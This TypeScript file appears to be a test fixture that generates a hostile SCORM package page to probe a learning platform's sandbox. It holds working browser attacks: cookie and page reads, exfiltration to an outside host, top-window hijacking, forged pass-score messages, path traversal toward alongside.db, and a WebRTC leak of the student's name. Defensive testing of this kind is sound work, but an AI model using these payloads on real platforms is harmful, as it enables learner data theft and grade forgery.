/** The page of a package that wants to do harm: each attack answers what it got. */
export const attackPage = (
  platform: string,
  outside: string,
): string => `<!doctype html><html lang="en"><title>Attack</title><body><script>
var PLATFORM = ${JSON.stringify(platform)}, OUTSIDE = ${JSON.stringify(outside)}
function find(win, name) { for (var i = 0; i < 10; i++) { try { if (win[name]) return win[name] } catch (e) { return null } if (win === win.parent) return null; win = win.parent } return null }
var api = find(window, 'API')
function scorm(name) { return api['LMS' + name].apply(api, Array.prototype.slice.call(arguments, 1).concat('')) }
scorm('Initialize')
function tried(run) { try { return String(run()) } catch (e) { return 'refused ' + e.name } }
function waited(promise) { return promise.then(function () { return 'done' }, function (e) { return 'refused ' + (e && e.name) }) }
function later(ms, value) { return new Promise(function (resolve) { setTimeout(function () { resolve(typeof value === 'function' ? value() : value) }, ms) }) }
var attacks = {
  readsThePage: function () { return tried(function () { return top.document.body.innerHTML }) },
  readsTheShellsParent: function () { return tried(function () { return parent.parent.location.href }) },
  readsCookies: function () { return document.cookie },
  readsTheStorage: function () { return tried(function () { return top.localStorage.length }) },
  fetchesARecord: function () { return waited(fetch(PLATFORM + '/record', { credentials: 'include' })) },
  postsAResult: function (launch) { return waited(fetch(PLATFORM + '/api/packages/' + launch, { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' })) },
  asksByXhr: function () { return new Promise(function (resolve) { var x = new XMLHttpRequest(); x.onload = function () { resolve('done') }; x.onerror = function () { resolve('refused') }; x.withCredentials = true; x.open('GET', PLATFORM + '/learn'); x.send() }) },
  tellsOutside: function () { fetch(OUTSIDE).catch(function () {}); tried(function () { navigator.sendBeacon(OUTSIDE, 'x') }); new Image().src = OUTSIDE + '/i.png'; tried(function () { new WebSocket(OUTSIDE.replace('http', 'ws')) }); tried(function () { new EventSource(OUTSIDE) }); var l = document.createElement('link'); l.rel = 'stylesheet'; l.href = OUTSIDE + '/x.css'; document.head.append(l); var s = document.createElement('script'); s.src = OUTSIDE + '/x.js'; document.head.append(s); return later(1500, 'sent') },
  opensAWindow: function () { return tried(function () { return window.open(OUTSIDE) }) },
  takesTheTop: function () { return tried(function () { top.location.href = OUTSIDE; return 'went' }) },
  takesTheTopByLink: function () { var a = document.createElement('a'); a.href = OUTSIDE; a.target = '_top'; document.body.append(a); a.click(); return later(800, 'clicked') },
  leavesItsFrame: function () { setTimeout(function () { location.href = OUTSIDE }, 0); return 'leaving' },
  asksToResume: function () { return String(confirm('Go on where you left off?')) },
  framesThePlatform: function () { var f = document.createElement('iframe'); f.src = PLATFORM + '/record'; document.body.append(f); return later(1200, function () { return tried(function () { return f.contentDocument ? 'blank' : 'refused' }) }) },
  installsAWorker: function () { return waited(navigator.serviceWorker ? navigator.serviceWorker.register('worker.js') : Promise.reject(new Error())) },
  downloads: function () { var a = document.createElement('a'); a.href = 'data:application/octet-stream,evil'; a.download = 'evil.exe'; document.body.append(a); a.click(); return later(800, 'clicked') },
  postsAForm: function () { var f = document.createElement('form'); f.method = 'post'; f.action = PLATFORM + '/learn'; f.innerHTML = '<input name="act" value="pause">'; document.body.append(f); tried(function () { f.submit() }); return later(1000, 'posted') },
  asksWhereOneIs: function () { return new Promise(function (resolve) { if (!navigator.geolocation) resolve('refused'); else navigator.geolocation.getCurrentPosition(function () { resolve('done') }, function () { resolve('refused') }) }) },
  floods: function () { for (var i = 0; i < 3000; i++) { scorm('SetValue', 'cmi.core.lesson_location', String(i)); scorm('Commit') } return 'flooded' },
  keepsAMegabyte: function () { return scorm('SetValue', 'cmi.suspend_data', new Array(1048577).join('x')) + ' ' + api.LMSGetLastError() },
  reportsMuch: function () { for (var i = 0; i < 1200; i++) scorm('SetValue', 'cmi.interactions.' + i + '.id', 'q' + i); return scorm('Commit') },
  forges: function () { var told = { kind: 'commit', ended: true, elements: { 'cmi.core.lesson_status': 'passed', 'cmi.core.score.raw': '100' } }; for (var i = 0; i < 50; i++) { top.postMessage({ kind: 'alongside-ready' }, '*'); top.postMessage(told, '*'); parent.postMessage(told, '*') } return later(500, 'sent') },
  leavesATrace: function () { return tried(function () { localStorage.setItem('trace', 'here'); return localStorage.getItem('trace') }) },
  callsOut: function (stun) {
    var said = []
    function from(what, get) {
      return Promise.resolve().then(get).then(function (win) {
        var Call = win && (win.RTCPeerConnection || win.webkitRTCPeerConnection)
        if (!Call) return
        said.push(what)
        var call = new Call({ iceServers: [{ urls: stun, username: api.LMSGetValue('cmi.core.student_name'), credential: 'x' }] })
        call.createDataChannel('x')
        return call.createOffer().then(function (offer) { return call.setLocalDescription(offer) })
      }).catch(function () {})
    }
    function put(parent, element) { parent.appendChild(element); return element }
    function blank(doc) { return doc.createElement('iframe') }
    return Promise.all([
      from('the page', function () { return window }),
      from('the shell', function () { return parent }),
      from('a frame', function () { return put(document.body, blank(document)).contentWindow }),
      from('a frame by its number', function () { put(document.body, blank(document)); return window[window.length - 1] }),
      from('a frame by its name', function () { document.body.insertAdjacentHTML('beforeend', '<iframe name=other></iframe>'); return window.other }),
      from('a frame of the shell', function () { put(parent.document.body, blank(parent.document)); return parent[parent.length - 1] }),
      from('a frame that was written', function () { var d = put(document.body, blank(document)).contentDocument; d.open(); d.write('<script>parent.written = window.RTCPeerConnection<\\/script>'); d.close(); return { RTCPeerConnection: window.written } }),
      from('a page of text', function () { var f = blank(document); f.srcdoc = '<script>parent.ofText = window.RTCPeerConnection<\\/script>'; put(document.body, f); return later(500, function () { return { RTCPeerConnection: window.ofText } }) }),
      from('a page of text in the text', function () { document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="<script>parent.inText = window.RTCPeerConnection<\\/script>"></iframe>'); return later(500, function () { return { RTCPeerConnection: window.inText } }) }),
      from('a blank page later', function () { var f = put(document.body, blank(document)); f.src = 'about:blank?x'; return later(500, function () { return window[window.length - 1] }) }),
    ]).then(function () { return later(1500, function () { return said.join(', ') }) })
  },
  knowsWho: function () { return [api.LMSGetValue('cmi.core.student_id'), api.LMSGetValue('cmi.core.student_name'), api.LMSGetValue('cmi.launch_data'), document.referrer, location.href, window.name, document.cookie, tried(function () { return parent.document.referrer + parent.location.href + parent.document.documentElement.outerHTML })].join(' | ') },
  findsATrace: function () { return tried(function () { return localStorage.getItem('trace') }) },
  readsOtherFiles: function () { return Promise.all(['/files/' + new Array(44).join('a') + '/index.html', location.pathname.replace('index.html', '..%2f..%2f..%2falongside.db'), location.pathname.replace('index.html', 'imsmanifest.xml/../../../../alongside.db'), '/', '/learn', '/api/records'].map(function (to) { return fetch(to).then(function (r) { return r.status }, function () { return 0 }) })).then(String) },
}
</script></body></html>`
